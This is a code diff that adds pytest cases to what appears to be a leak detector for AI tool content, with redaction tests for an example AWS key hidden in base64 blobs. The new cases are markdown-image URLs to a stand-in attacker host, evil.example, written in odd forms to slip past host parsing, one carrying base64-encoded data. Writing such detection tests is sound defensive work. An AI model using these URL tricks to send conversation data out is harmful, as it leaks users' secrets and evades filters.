@@ -42,6 +42,22 @@ async def test_only_a_whole_name_of_a_host_counts_as_named(host: str):
     assert await found(TextContent(text=f"https://{host}/?d=1")) == {"leak"}
 
 
+@pytest.mark.parametrize(
+    "address",
+    [
+        "https://evil.example\\@docs.example.org/?d=1",
+        "https:///evil.example/?d=1",
+        "https:evil.example/?d=1",
+        "https:\\\\evil.example?d=1",
+        "https://[evil/?d=1",
+        "https://evil.example/?c2VjcmV0cyBvZiBtaW5l",
+    ],
+)
+async def test_a_host_is_the_one_that_a_browser_would_ask(address: str):
+    """However the address is written; what is no address at all names no host of the call either."""
+    assert await found(TextContent(text=f"![]({address})")) == {"leak"}
+
+
 async def test_the_data_of_an_image_is_not_searched():
     """It is base64, in which anything may look like a secret."""
     image = ImageContent(data="AKIAIOSFODNN7EXAMPLE", mime_type="image/png")
@@ -81,6 +97,14 @@ async def test_no_text_takes_long(text: str):
         ),
         (ImageContent(data="key: AKIAIOSFODNN7EXAMPLE!", mime_type="image/png"), "image/png: key: [AWS access key]!"),
         (ImageContent.of(b"AKIAIOSFODNN7EXAMPLE", "image/png"), "image/png: [AWS access key]"),
+        (
+            EmbeddedResource(resource=ResourceContents(uri="a:b", blob="a2V5IEFLSUFJT1NG\r\nT0ROTjdFWEFNUExF")),
+            "key [AWS access key]",
+        ),
+        (
+            EmbeddedResource(resource=ResourceContents(uri="a:b", blob="fn5-IEFLSUFJT1NGT0ROTjdFWEFNUExFIA")),
+            "~~~ [AWS access key] ",
+        ),
         (UnknownContent("new", {"body": {"a": ["AKIAIOSFODNN7EXAMPLE"]}}), "[AWS access key]"),
     ],
 )
